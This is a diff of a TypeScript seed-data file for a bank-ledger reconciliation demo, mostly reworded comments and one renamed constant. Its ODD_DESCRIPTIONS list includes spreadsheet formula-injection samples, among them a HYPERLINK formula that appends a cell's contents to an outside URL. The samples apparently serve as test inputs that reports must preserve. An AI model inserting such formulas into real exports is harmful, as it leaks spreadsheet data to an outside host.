@@ -1,4 +1,4 @@
-/** The reconciliation that the demo tenant comes with. */
+/** The name of the demo tenant's context. */
 export const DEMO_CONTEXT = "Bank vs. ledger, Nordlicht Handels GmbH";
 
 export const BANK = { name: "Nordbank giro 4711", type: "BANK", side: "LEFT" } as const;
@@ -25,7 +25,7 @@ export const PARTIES = [
   "Özdemir Gıda A.Ş.",
 ] as const;
 
-/** What statements really hold now and then, and what every report must carry unharmed. */
+/** Descriptions as real statements sometimes contain them. Every report must preserve them. */
 export const ODD_DESCRIPTIONS = [
   '=HYPERLINK("https://example.com/?x="&A1,"Open the invoice")',
   "@SUM(A1:A9)",
@@ -41,7 +41,7 @@ export const ODD_DESCRIPTIONS = [
   `Collective transfer: ${"RE-100001, RE-100002, RE-100003; ".repeat(24)}end of list`,
 ] as const;
 
-/** How money comes and goes: weight, sign, and what bank and ledger write. */
+/** The kinds of payments: sign of the amount, and the words of bank and ledger. */
 export const FLOWS = {
   invoice: { sign: 1, bank: "SEPA credit", ledger: "Receivable" },
   supplier: { sign: -1, bank: "SEPA transfer", ledger: "Payable" },
@@ -64,7 +64,7 @@ export const FLOW_WEIGHTS: Readonly<Record<Flow, number>> = {
   refund: 3,
 };
 
-/** What the bank should charge: a flat part in cents and hundredths of a percent of the amount. */
+/** What the bank should charge: a flat fee in cents, plus basis points of the amount. */
 export type FeeSchedule = {
   readonly id: string;
   readonly name: string;
@@ -72,7 +72,7 @@ export type FeeSchedule = {
   readonly basisPoints: number;
 };
 
-/** The schedules that a flow's fees follow; flows that are not here cost nothing. */
+/** The fee schedules of each kind of payment. The others are free of charge. */
 export const FEE_SCHEDULES: Partial<Record<Flow, readonly FeeSchedule[]>> = {
   invoice: [
     { id: "SEPA-CT-STD", name: "SEPA credit transfer, standard", flat: 12, basisPoints: 0 },
@@ -91,13 +91,13 @@ export const FEE_SCHEDULES: Partial<Record<Flow, readonly FeeSchedule[]>> = {
 
 export const REVIEWERS = ["anna.kowalska", "jonas.weber", "mei.tanaka", "luc.moreau"] as const;
 
-/** How an exception ended whose line found its counterpart. */
-export const MATCHED_LATE = [
+/** The resolution of an exception whose transaction was matched later. */
+export const LATE_MATCH = [
   "MATCHED_MANUALLY",
   "Found the counterpart by its amount; the reference was mistyped.",
 ] as const;
 
-/** How one ended without. */
+/** Resolutions of exceptions whose transactions stayed unmatched. */
 export const RESOLUTIONS = [
   ["WRITTEN_OFF", "Below the limit of 5.00, written off."],
   ["ACCEPTED_DIFFERENCE", 'Bank confirmed a "value date" shift, accepted.'],
